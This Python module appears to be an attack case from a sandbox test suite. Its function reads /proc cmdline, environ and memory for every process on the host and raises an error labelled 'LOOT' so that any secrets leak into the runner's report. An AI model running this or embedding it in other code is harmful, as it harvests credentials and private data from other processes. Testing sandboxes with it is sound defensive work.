"""Reads the runner's command line, environment and memory through /proc and reports what it got in
the error message of exp (a secret there would leak into the report)."""
import os

from tiny import *  # noqa: F401,F403

from ._attack import attempt, exp_runs


def _read(path, size=4096):
    with open(path, "rb") as f:
        return f.read(size).replace(b"\0", b" ").decode("latin-1")


def attack():
    loot = []
    for pid in {os.getppid(), 1, *[int(p) for p in os.listdir("/proc") if p.isdigit()]}:
        for what in ("cmdline", "environ", "mem"):
            loot.append(f"{pid}/{what}: {attempt(_read, f'/proc/{pid}/{what}')}")
    raise ValueError("LOOT " + " || ".join(loot))


tensor = exp_runs(attack)
